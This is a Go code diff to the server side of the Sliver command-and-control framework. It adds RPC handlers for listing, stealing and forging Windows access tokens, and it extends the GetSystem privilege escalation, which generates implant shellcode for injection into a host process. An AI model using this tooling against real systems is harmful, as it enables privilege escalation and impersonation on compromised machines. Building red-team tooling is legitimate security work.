@@ -30,6 +30,13 @@ import (
 	"github.com/golang/protobuf/proto"
 )
 
+const (
+	// Must match priv.GetSystemInject in the implant
+	getSystemInjectTechnique = "inject"
+
+	systemUsername = "NT AUTHORITY\\SYSTEM"
+)
+
 // Impersonate - Impersonate a remote user
 func (rpc *Server) Impersonate(ctx context.Context, req *sliverpb.ImpersonateReq) (*sliverpb.Impersonate, error) {
 	resp := &sliverpb.Impersonate{}
@@ -37,6 +44,7 @@ func (rpc *Server) Impersonate(ctx context.Context, req *sliverpb.ImpersonateReq
 	if err != nil {
 		return nil, err
 	}
+	setEffectiveUser(req.Request.SessionID, req.Username)
 	return resp, nil
 }
 
@@ -57,6 +65,39 @@ func (rpc *Server) RevToSelf(ctx context.Context, req *sliverpb.RevToSelfReq) (*
 	if err != nil {
 		return nil, err
 	}
+	setEffectiveUser(req.Request.SessionID, "")
+	return resp, nil
+}
+
+// ListTokens - List the tokens of processes on the remote system
+func (rpc *Server) ListTokens(ctx context.Context, req *sliverpb.ListTokensReq) (*sliverpb.Tokens, error) {
+	resp := &sliverpb.Tokens{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	return resp, nil
+}
+
+// StealToken - Impersonate the token of a remote process
+func (rpc *Server) StealToken(ctx context.Context, req *sliverpb.StealTokenReq) (*sliverpb.StealToken, error) {
+	resp := &sliverpb.StealToken{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	setEffectiveUser(req.Request.SessionID, resp.Username)
+	return resp, nil
+}
+
+// MakeToken - Create and impersonate a token from credentials
+func (rpc *Server) MakeToken(ctx context.Context, req *sliverpb.MakeTokenReq) (*sliverpb.MakeToken, error) {
+	resp := &sliverpb.MakeToken{}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	setEffectiveUser(req.Request.SessionID, resp.Username)
 	return resp, nil
 }
 
@@ -68,21 +109,29 @@ func (rpc *Server) GetSystem(ctx context.Context, req *clientpb.GetSystemReq) (*
 		return nil, ErrInvalidSessionID
 	}
 
-	shellcode, err := getSliverShellcode(req.Config.GetName())
-	if err != nil {
-		config := generate.ImplantConfigFromProtobuf(req.Config)
-		config.Name = ""
-		config.Format = clientpb.ImplantConfig_SHELLCODE
-		config.ObfuscateSymbols = false
-		shellcodePath, err := generate.SliverShellcode(config)
+	// Only the inject technique needs a new implant
+	if req.Technique == "" || req.Technique == getSystemInjectTechnique {
+		var err error
+		shellcode, err = getSliverShellcode(req.Config.GetName())
 		if err != nil {
-			return nil, err
+			config := generate.ImplantConfigFromProtobuf(req.Config)
+			config.Name = ""
+			config.Format = clientpb.ImplantConfig_SHELLCODE
+			config.ObfuscateSymbols = false
+			shellcodePath, err := generate.SliverShellcode(config)
+			if err != nil {
+				return nil, err
+			}
+			shellcode, err = ioutil.ReadFile(shellcodePath)
+			if err != nil {
+				return nil, err
+			}
 		}
-		shellcode, err = ioutil.ReadFile(shellcodePath)
 	}
 	data, err := proto.Marshal(&sliverpb.InvokeGetSystemReq{
 		Data:           shellcode,
 		HostingProcess: req.HostingProcess,
+		Technique:      req.Technique,
 		Request:        req.GetRequest(),
 	})
 	if err != nil {
@@ -99,5 +148,16 @@ func (rpc *Server) GetSystem(ctx context.Context, req *clientpb.GetSystemReq) (*
 	if err != nil {
 		return nil, err
 	}
+	if getSystem.Technique != "" && getSystem.Technique != getSystemInjectTechnique {
+		setEffectiveUser(session.ID, systemUsername)
+	}
 	return getSystem, nil
 }
+
+// setEffectiveUser - Record the identity a session is impersonating
+func setEffectiveUser(sessionID uint32, username string) {
+	session := core.Sessions.Get(sessionID)
+	if session != nil {
+		session.EffectiveUser = username
+	}
+}